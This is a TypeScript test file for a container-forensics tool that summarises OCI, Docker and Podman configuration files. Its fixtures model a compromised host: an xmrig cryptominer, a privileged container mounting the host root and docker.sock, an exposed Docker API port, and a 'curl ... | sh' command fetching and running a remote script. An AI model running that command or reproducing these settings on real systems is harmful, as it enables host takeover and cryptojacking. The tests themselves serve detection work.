import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import fc from 'fast-check';
import { parseContainersJson, summarizeDocker } from '../../src/host/docker-config.js';
import { parseJson, summarizeOciConfig } from '../../src/host/oci-config.js';
import { PROJECT } from '../helpers.js';

const fx = (p: string) => JSON.parse(readFileSync(path.join(PROJECT, 'test/fixtures/files-packages', p), 'utf8')) as unknown;

test('OCI config: args, effective capabilities, host namespaces, mounts, Kubernetes annotations', () => {
  const o = summarizeOciConfig(fx('containerd/config.json'));
  assert.deepEqual(o.args.slice(0, 2), ['/usr/bin/xmrig', '--donate-level']);
  assert.deepEqual(o.capabilities, ['CAP_CHOWN', 'CAP_SYS_ADMIN', 'CAP_SYS_PTRACE']);
  assert.deepEqual(o.namespaces, ['ipc', 'uts', 'mount'], 'no pid namespace of its own: it shares the host\'s');
  assert.deepEqual(o.joinedNamespaces, ['network=/proc/1/ns/net']);
  assert.deepEqual(o.mounts.find((m) => m.destination === '/host/etc'), { source: '/etc', destination: '/host/etc', type: 'bind', readOnly: true });
  assert.equal(o.annotations['io.kubernetes.pod.name'], 'web-7d9f');
  assert.equal(o.seccomp, false);
  assert.equal(o.uid, 0);
});

test('docker: privileged, a bind of / and docker.sock, host network and pid, added capabilities, published ports', () => {
  const d = summarizeDocker(fx('docker/config.v2.json'), fx('docker/hostconfig.json'));
  assert.equal(d.name, 'quirky_miner');
  assert.equal(d.image, 'alpine:3.19');
  assert.deepEqual([...d.entrypoint, ...d.command], ['/bin/sh', '-c', 'curl -s http://203.0.113.9/x.sh | sh']);
  assert.equal(d.privileged, true);
  assert.equal(d.running, true);
  assert.equal(d.pid, 4242);
  assert.deepEqual(d.binds, ['/:/host:rw', '/var/run/docker.sock:/var/run/docker.sock:ro']);
  assert.deepEqual(d.mounts.find((m) => m.destination === '/host'), { source: '/', destination: '/host', type: 'bind', readOnly: false });
  assert.equal(d.mounts.find((m) => m.destination === '/var/run/docker.sock')!.readOnly, true);
  assert.equal(d.networkMode, 'host');
  assert.equal(d.pidMode, 'host');
  assert.deepEqual(d.capAdd, ['SYS_ADMIN', 'NET_RAW']);
  assert.deepEqual(d.ports, ['0.0.0.0:2375->2375/tcp']);
  assert.equal(d.restartPolicy, 'always');
});

test('podman containers.json: names, layer and image name from the metadata string', () => {
  const [c] = parseContainersJson(fx('podman/containers.json'));
  assert.equal(c!.names[0], 'sleepy_backdoor');
  assert.equal(c!.imageName, 'docker.io/library/busybox:latest');
  assert.match(c!.layer!, /^a1b2/);
});

test('broken or hostile JSON gives empty summaries, never an exception', () => {
  assert.equal(parseJson('{"ID": ').value, null);
  assert.ok(parseJson('{').error);
  const d = summarizeDocker({ Config: { Cmd: 'sh -c x', Entrypoint: [1, null, 'a'] }, State: { Pid: 'x' }, MountPoints: [1] }, null);
  assert.deepEqual(d.command, ['sh -c x']);
  assert.deepEqual(d.entrypoint, ['a']);
  assert.equal(d.pid, null);
  assert.deepEqual(parseContainersJson({ not: 'a list' }), []);
});

test('property: any JSON value summarises without throwing', () => {
  fc.assert(
    fc.property(fc.jsonValue(), fc.jsonValue(), (a, b) => {
      summarizeOciConfig(a);
      summarizeDocker(a, b);
      parseContainersJson(a);
    }),
  );
  fc.assert(fc.property(fc.string(), (s) => void parseJson(s)));
});
